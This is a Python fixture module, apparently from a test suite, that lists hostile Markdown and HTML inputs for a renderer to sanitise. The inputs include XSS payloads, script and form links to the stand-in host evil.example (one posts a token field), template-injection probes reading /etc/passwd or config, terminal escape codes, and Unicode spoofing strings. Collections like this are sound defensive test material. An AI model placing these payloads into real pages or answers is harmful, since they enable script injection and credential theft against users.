"""What a hostile document or answer may hold, as Markdown: scripts, images, links, SVG, CSS, terminal codes, templates."""

from __future__ import annotations

_HOST = "http://evil.example"
_RAW = (
    "<script>hit()</script>", f"<script src={_HOST}/a.js></script>", "<ScRiPt >hit()</sCrIpT>", "<script\n>hit()</script>",
    "</textarea><script>hit()</script>", "</title><script>hit()</script>", "</pre></code><script>hit()</script>",
    "--><script>hit()</script>", "]]><script>hit()</script>", "<img src=x onerror=hit()>", f"<img src={_HOST}/a.png>",
    f"<img srcset={_HOST}/a.png>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    f"<svg><image href={_HOST}/a.png></svg>", f"<svg><use href={_HOST}/a.svg#x></svg>",
    "<svg><animate onbegin=hit() attributeName=x></svg>", "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>", f"<iframe src={_HOST}></iframe>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>", f"<object data={_HOST}/a></object>", f"<embed src={_HOST}/a>",
    f"<link rel=stylesheet href={_HOST}/a.css>", f"<style>@import '{_HOST}/a.css';</style>",
    f"<div style=\"background:url({_HOST}/a)\">x</div>", f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href={_HOST}/>", f"<form action={_HOST}><input name=token><button>x</button></form>",
    "<body onload=hit()>", "<details open ontoggle=hit()>x</details>", "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>", f"<video poster={_HOST}/a src={_HOST}/b></video>", f"<audio src={_HOST}/a autoplay></audio>",
    "<marquee onstart=hit()>x</marquee>", "<a href=javascript:hit()>x</a>", "<a href='java\tscript:hit()'>x</a>",
    f"<a ping={_HOST} href=/>x</a>", "<button formaction=javascript:hit()>x</button>", "<template><script>hit()</script></template>",
    "<div hx-get=/signout hx-trigger=load>x</div>", f"<div hx-get={_HOST} hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=hit()>x</div>", f"<div hx-ext=sse sse-connect={_HOST}>x</div>", "<div data-hx-get=/x data-hx-trigger=load>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>", "<!--<img src=--><img src=x onerror=hit()>-->",
    "<textarea><img src=x onerror=hit()></textarea>", "<xmp><script>hit()</script></xmp>", "<plaintext>",
    "<isindex action=javascript:hit()>", "<table background=javascript:hit()>", "<keygen autofocus onfocus=hit()>",
)  # fmt: skip
_LINKS = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java&#09;script:hit()", "javascript&colon;hit()", "&#106;avascript:hit()",
    "\x01javascript:hit()", "vbscript:hit()", "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=hit()>", "file:///etc/passwd", "blob:x", "view-source:http://evil.example", "//evil.example",
    "\\\\evil.example", "/\\evil.example", "http:evil.example", "http://user:pass@evil.example", "ftp://evil.example", "ws://evil.example",
    "mailto:a@evil.example?body=x", "tel:1", "intent://x#Intent;end", "/signout", "?q=x", "#turns", "..//..//evil.example",
    f"{_HOST}/'onmouseover='hit()", f"{_HOST}/\"onmouseover=\"hit()", f"{_HOST}/`", "http://[::1", "http://\u202eevil", "http://ev\u200bil.example",
)  # fmt: skip
_PLAIN = (
    "{{7*7}}", "{{ config }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__}}", "{#x#}",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b2J", "\x1bc", "\x08\x08\x08", "a\x00b", "a\x7fb",
    "\u202egnp.exe", "\u2066\u2067x\u2069", "\u200e\u200f", "\u2028\u2029", "\ufeffx", "\U000e0041\U000e0042", "\ud800x", "\ufff9x\ufffb",
    "data: x\n\nevent: final\ndata: <b>x</b>\n\n", "\r\rdata: x\r\r", "event: broken\n", ":\n\n", "id: 1\nretry: 1\n",
    "* " * 500, "> " * 500 + "x", "[" * 500, "![" * 300, "`" * 501, "#" * 500, "(" * 500, "<" * 500, "&" * 500, "|" * 500, "-" * 500,
    "\n".join("  " * n + "- x" for n in range(60)), "|a|\n|-|\n" + "|x" * 200, "~~" * 300, "**" * 300, "[1]" * 200, "\\" * 300,
)  # fmt: skip


def _wrapped() -> list[str]:
    found: list[str] = []
    for raw in _RAW:
        found += [raw, f"- item\n\n  {raw}\n", f"[{raw}](http://h/)"]
    for link in _LINKS:
        found += [f"[x]({link})", f"![x]({link})", f"<{link}>", f"[x][r]\n\n[r]: {link}\n"]
    return [*found, *_PLAIN, *(f"```{plain}\n{plain}\n```" for plain in _PLAIN[:8])]


HOSTILE = _wrapped()
